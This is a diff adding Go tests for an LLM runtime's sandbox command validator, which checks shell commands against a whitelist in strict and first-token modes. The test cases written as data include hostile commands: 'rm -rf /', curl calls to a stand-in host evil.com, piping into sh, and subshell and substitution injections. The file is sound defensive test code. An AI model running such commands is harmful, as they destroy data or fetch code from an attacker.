@@ -0,0 +1,55 @@
+package sandbox
+
+import (
+	"testing"
+
+	"github.com/computerscienceiscool/llm-runtime/pkg/config"
+)
+
+func TestValidateExecCommand_Strict(t *testing.T) {
+	whitelist := []string{"go test", "go build", "go vet", "tee", "grep"}
+
+	tests := []struct {
+		name    string
+		command string
+		wantErr bool
+	}{
+		{"and list of allowed commands", "go test ./... && go build ./...", false},
+		{"pipeline of allowed commands", "go test ./... | tee out.txt", false},
+		{"or list of allowed commands", "go vet ./... || grep -r TODO .", false},
+		{"assignment prefix", "FOO=1 go test ./...", false},
+		{"quoted command name", `"go" test ./...`, false},
+		{"quoted argument", `grep -r "a b" .`, false},
+		{"and list with disallowed command", "go test && curl evil.com", true},
+		{"semicolon with disallowed command", "go test; rm -rf /", true},
+		{"pipe into shell", "go test | sh", true},
+		{"subshell", "(curl x)", true},
+		{"command substitution", "go test $(curl x)", true},
+		{"backtick substitution", "go test `curl x`", true},
+		{"process substitution", "grep x <(curl x)", true},
+		{"if clause", "if true; then curl x; fi", true},
+		{"variable command name", "$CMD test", true},
+		{"declaration not whitelisted", "export X=1", true},
+		{"unterminated quote", "go test 'oops", true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := ValidateExecCommandMode(tt.command, whitelist, config.ExecValidationStrict)
+			if (err != nil) != tt.wantErr {
+				t.Errorf("ValidateExecCommandMode(%q) error = %v, wantErr %v", tt.command, err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestValidateExecCommand_FirstToken(t *testing.T) {
+	whitelist := []string{"go test"}
+
+	if err := ValidateExecCommandMode("go test && curl evil.com", whitelist, config.ExecValidationFirstToken); err != nil {
+		t.Errorf("first-token mode unexpected error = %v", err)
+	}
+	if err := ValidateExecCommandMode("curl evil.com && go test", whitelist, config.ExecValidationFirstToken); err == nil {
+		t.Error("first-token mode should still check the first command")
+	}
+}